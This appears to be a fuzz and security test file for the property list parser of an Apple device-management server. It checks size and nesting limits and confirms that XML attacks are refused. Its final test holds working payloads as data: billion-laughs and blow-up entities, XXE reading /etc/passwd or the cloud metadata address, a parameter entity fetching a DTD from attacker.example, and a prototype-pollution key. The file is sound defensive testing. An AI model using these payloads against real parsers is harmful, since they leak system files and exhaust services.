import fc from 'fast-check';
import { expect, it } from 'vitest';
import { MachineInfoError, parseMachineInfoPlist } from '../../src/apple/enrollment/machine-info.js';
import { MessageError, parseCheckin, parseReport } from '../../src/apple/mdm/messages.js';
import { MAX_CHECKIN_BYTES } from '../../src/apple/mdm/routes.js';
import { buildPlist, MAX_PLIST_DEPTH, parsePlist, parsePlistDict, PlistError, type PlistValue } from '../../src/shared/plist.js';
import { heapBounded, mutate, mutations, plistSamples, pureDescribe, refuses, typedOnly } from './support.js';

/**
 * The property list parser every device message goes through (check-ins, command reports,
 * MachineInfo, profiles): random and mutated input, size and nesting limits, entity attacks.
 */

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0">\n';
const TAIL = '\n</plist>\n';
const wrap = (body: string) => HEAD + body + TAIL;
const LARGE = { maxBytes: 16 * 1024 * 1024 };

/** Anything a parsed plist may hold, and nothing else (no null, undefined or NaN-free guarantee needed). */
function isPlistValue(v: unknown, depth = 0): boolean {
  if (depth > MAX_PLIST_DEPTH + 1) return false;
  if (typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean' || Buffer.isBuffer(v) || v instanceof Date) return true;
  if (Array.isArray(v)) return v.every((x) => isPlistValue(x, depth + 1));
  if (v !== null && typeof v === 'object' && Object.getPrototypeOf(v) === Object.prototype) return Object.values(v).every((x) => isPlistValue(x, depth + 1));
  return false;
}

/** Whatever parses is a plist value; check-in and report readers then refuse only with MessageError. */
function parseAndRead(bytes: Buffer): void {
  const value = parsePlist(bytes, LARGE);
  expect(isPlistValue(value)).toBe(true);
  if (value !== null && typeof value === 'object' && !Array.isArray(value) && !Buffer.isBuffer(value) && !(value instanceof Date)) {
    const dict = value as Record<string, PlistValue>;
    typedOnly([MessageError], () => parseCheckin(dict));
    typedOnly([MessageError], () => parseReport(dict));
  }
}

// Text the XML writer can carry unchanged (XML normalises CR to LF and forbids most control characters).
const XML_TEXT = /^[\t\n\x20-\uD7FF\uE000-\uFFFD]*$/u;
const xmlString = fc.string({ maxLength: 40, unit: 'binary' }).filter((s) => XML_TEXT.test(s));
const plistValue: fc.Arbitrary<PlistValue> = fc.letrec<{ value: PlistValue }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    xmlString,
    fc.integer({ min: -(2 ** 40), max: 2 ** 40 }),
    fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e9, max: 1e9 }).filter((d) => !Number.isInteger(d)),
    fc.boolean(),
    fc.uint8Array({ maxLength: 40 }).map((b) => Buffer.from(b)),
    fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => new Date(Math.floor(d.getTime() / 1000) * 1000)),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(xmlString.filter((k) => k !== '__proto__'), tie('value'), { maxKeys: 5, noNullPrototype: true }),
  ),
})).value;

pureDescribe('property lists under fuzzing', () => {
  it('round-trips any plist value the writer produces (the parser reads what Apple writes)', () => {
    fc.assert(
      fc.property(fc.dictionary(xmlString.filter((k) => k !== '__proto__'), plistValue, { maxKeys: 6, noNullPrototype: true }), (dict) => {
        expect(parsePlistDict(buildPlist(dict))).toEqual(dict);
      }),
      { numRuns: 200 },
    );
  });

  it('random bytes and random XML-shaped text give a value or a PlistError, never anything else', async () => {
    const fragment = fc.constantFrom(
      '<plist>', '</plist>', '<plist version="1.0">', '<dict>', '</dict>', '<array>', '</array>', '<key>', '</key>', '<string>', '</string>',
      '<integer>', '</integer>', '<real>', '</real>', '<date>', '</date>', '<data>', '</data>', '<true/>', '<false/>', '<dict/>', '<array/>',
      '<null/>', '&amp;', '&lt;', '&#0;', '&#x110000;', '&#xD800;', '&bogus;', '&', '<![CDATA[', ']]>', '<!--', '-->', '<?xml version="1.0"?>',
      '<!DOCTYPE plist>', '<!ENTITY x "y">', '__proto__', 'constructor', '\u0000', '\uFEFF', '<', '>', '"', '=',
    );
    const soup = fc.array(fc.oneof({ weight: 4, arbitrary: fragment }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }), { maxLength: 40 }).map((p) => p.join(''));
    await heapBounded((sample) => {
      fc.assert(
        fc.property(fc.uint8Array({ maxLength: 2000 }), (bytes) => {
          typedOnly([PlistError], () => parseAndRead(Buffer.from(bytes)));
          sample();
        }),
        { numRuns: 300 },
      );
      fc.assert(
        fc.property(soup, (text) => {
          typedOnly([PlistError], () => parseAndRead(Buffer.from(text)));
          typedOnly([PlistError], () => parseAndRead(Buffer.from(wrap(text))));
          sample();
        }),
        { numRuns: 600 },
      );
    });
  });

  it('mutated real samples (bit flips, truncation, splicing, duplication) give a value or a PlistError', async () => {
    const samples = plistSamples();
    expect(samples.length).toBeGreaterThanOrEqual(10);
    await heapBounded((sample) => {
      fc.assert(
        fc.property(fc.nat(), mutations, (pick, ms) => {
          const s = samples[pick % samples.length]!;
          typedOnly([PlistError], () => parseAndRead(mutate(s.bytes, ms)), s.name);
          sample();
        }),
        { numRuns: 800 },
      );
    });
  });

  it('MachineInfo content: mutated and random plists give MachineInfoError only', () => {
    const info = Buffer.from(buildPlist({ UDID: '00008110-000A1B2C3D4E5F60', SERIAL: 'F2LXK0N8HG7F', PRODUCT: 'iPhone15,2', VERSION: '21A329', OS_VERSION: '17.0', LANGUAGE: 'en' }));
    expect(parseMachineInfoPlist(info).serialNumber).toBe('F2LXK0N8HG7F');
    fc.assert(fc.property(mutations, (ms) => void typedOnly([MachineInfoError], () => parseMachineInfoPlist(mutate(info, ms)))), { numRuns: 400 });
    fc.assert(fc.property(plistValue, (v) => void typedOnly([MachineInfoError], () => parseMachineInfoPlist(Buffer.from(buildPlist(v))))), { numRuns: 200 });
  });

  it('size: exactly the limit is read, one byte more is refused unread (bytes, not characters)', () => {
    const body = wrap('<string>é</string>');
    const pad = (n: number) => body.replace('</plist>', `${' '.repeat(n)}</plist>`);
    const limit = MAX_CHECKIN_BYTES;
    const exact = pad(limit - Buffer.byteLength(body));
    expect(Buffer.byteLength(exact)).toBe(limit);
    expect(parsePlist(exact, { maxBytes: limit })).toBe('é');
    expect(parsePlist(Buffer.from(exact), { maxBytes: limit })).toBe('é');
    const over = pad(limit - Buffer.byteLength(body) + 1);
    refuses([PlistError], () => parsePlist(over, { maxBytes: limit }));
    refuses([PlistError], () => parsePlist(Buffer.from(over), { maxBytes: limit }));
    expect(() => parsePlist(over, { maxBytes: limit })).toThrow(/larger than 262144 bytes/);
    // The default limit (1 MiB) applies when none is given.
    refuses([PlistError], () => parsePlist(wrap(`<string>${'a'.repeat(1024 * 1024)}</string>`)));
    // Oversized input with a valid start, far past any limit, is refused without reading it.
    refuses([PlistError], () => parsePlist(Buffer.alloc(64 * 1024 * 1024, 0x20), { maxBytes: MAX_CHECKIN_BYTES }));
  });

  it(`nesting: ${MAX_PLIST_DEPTH} elements inside <plist> are read, one more is refused`, () => {
    const arrays = (n: number, inner = '') => '<array>'.repeat(n) + inner + '</array>'.repeat(n);
    expect(typedOnly([PlistError], () => parsePlist(wrap(arrays(MAX_PLIST_DEPTH))))).toBe('ok');
    refuses([PlistError], () => parsePlist(wrap(arrays(MAX_PLIST_DEPTH + 1))));
    expect(typedOnly([PlistError], () => parsePlist(wrap(arrays(MAX_PLIST_DEPTH - 1, '<string>x</string>'))))).toBe('ok');
    refuses([PlistError], () => parsePlist(wrap(arrays(MAX_PLIST_DEPTH, '<string>x</string>'))));
    const dicts = (n: number) => '<dict><key>k</key>'.repeat(n) + '<true/>' + '</dict>'.repeat(n);
    expect(typedOnly([PlistError], () => parsePlist(wrap(dicts(MAX_PLIST_DEPTH - 1))))).toBe('ok');
    refuses([PlistError], () => parsePlist(wrap(dicts(MAX_PLIST_DEPTH))));
    expect(() => parsePlist(wrap(dicts(MAX_PLIST_DEPTH)))).toThrow(/nested more than 100/);
  });

  it('deep nesting thousands of levels, closed or not, is refused without a stack overflow', async () => {
    await heapBounded((sample) => {
      for (const n of [1_000, 10_000, 100_000]) {
        refuses([PlistError], () => parsePlist(wrap('<array>'.repeat(n) + '</array>'.repeat(n)), LARGE), `${n} nested arrays`);
        refuses([PlistError], () => parsePlist(wrap('<dict><key>k</key>'.repeat(n) + '<true/>' + '</dict>'.repeat(n)), LARGE), `${n} nested dicts`);
        refuses([PlistError], () => parsePlist(wrap('<array>'.repeat(n)), LARGE), `${n} unclosed arrays`);
        refuses([PlistError], () => parsePlist(wrap('<array><dict><key>k</key>'.repeat(n)), LARGE), `${n} unclosed mixed`);
        sample();
      }
    });
  });

  it('nested dictionaries are read in linear time (each value is read once)', () => {
    // A dictionary's values used to be read twice per level, so 30 levels took 2^30 reads of the innermost value.
    const wide = `<array>${'<string>payload</string>'.repeat(2_000)}</array>`;
    const n = MAX_PLIST_DEPTH - 2;
    const doc = wrap('<dict><key>a</key>'.repeat(n) + wide + '</dict>'.repeat(n));
    let v: PlistValue | undefined;
    expect(typedOnly([PlistError], () => (v = parsePlist(doc)))).toBe('ok');
    let inner = v;
    for (let i = 0; i < n; i++) inner = (inner as Record<string, PlistValue>).a;
    expect((inner as string[]).length).toBe(2_000);
  });

  it('XML entity attacks are refused, never expanded', async () => {
    const apple = '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"';
    const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const attacks: Record<string, string> = {
      'billion laughs': `<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY lol0 "lol">${laughs}]><plist><string>&lol9;</string></plist>`,
      'billion laughs under the Apple doctype': `<?xml version="1.0"?>${apple} [<!ENTITY lol0 "lol">${laughs}]><plist><string>&lol9;</string></plist>`,
      'quadratic blow-up': `<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "${'a'.repeat(50_000)}">]><plist><string>${'&a;'.repeat(5_000)}</string></plist>`,
      'external entity': '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><plist><string>&xxe;</string></plist>',
      'external entity, lower case': '<?xml version="1.0"?><!doctype plist [<!entity xxe system "file:///etc/passwd">]><plist><string>&xxe;</string></plist>',
      'public external entity': '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY xxe PUBLIC "-//x//EN" "http://169.254.169.254/latest/meta-data/">]><plist><string>&xxe;</string></plist>',
      'parameter entity': '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><plist><string>&send;</string></plist>',
      'parameter entity in the Apple doctype': `<?xml version="1.0"?>${apple} [<!ENTITY % p "<!ENTITY x 'y'>"> %p;]><plist><string>&x;</string></plist>`,
      'external DTD': '<?xml version="1.0"?><!DOCTYPE plist SYSTEM "file:///etc/passwd"><plist><string>x</string></plist>',
      'internal subset without entities': '<?xml version="1.0"?><!DOCTYPE plist [<!ELEMENT plist ANY>]><plist><string>x</string></plist>',
      'internal subset after the Apple doctype': `<?xml version="1.0"?>${apple} [<!ATTLIST plist version CDATA "1.0">]><plist><string>x</string></plist>`,
      'two doctypes': `<?xml version="1.0"?>${apple}>${apple}><plist><string>x</string></plist>`,
      'undeclared entity reference': '<?xml version="1.0"?><plist><string>&xxe;</string></plist>',
      'HTML entity': '<?xml version="1.0"?><plist><string>&nbsp;</string></plist>',
      'bare ampersand': '<?xml version="1.0"?><plist><string>a & b</string></plist>',
      'NUL character reference': '<?xml version="1.0"?><plist><string>&#0;</string></plist>',
      'out-of-range character reference': '<?xml version="1.0"?><plist><string>&#x110000;</string></plist>',
      XInclude: '<?xml version="1.0"?><plist xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></plist>',
      'prototype key': '<?xml version="1.0"?><plist><dict><key>__proto__</key><dict><key>admin</key><true/></dict></dict></plist>',
      'binary plist': 'bplist00\u00d1\u0001\u0002',
    };
    await heapBounded((sample) => {
      for (const [name, doc] of Object.entries(attacks)) {
        let message = '';
        refuses([PlistError], () => {
          try {
            parsePlist(Buffer.from(doc, 'utf8'), LARGE);
          } catch (err) {
            message = (err as Error).message;
            throw err;
          }
        }, name);
        expect(message, name).not.toMatch(/root:|lollol/);
        sample();
      }
    });
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    // What is allowed instead: the five XML entities and character references.
    expect(parsePlist(wrap('<string>&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;</string>'))).toBe('<>&"\'A😀');
  });
});
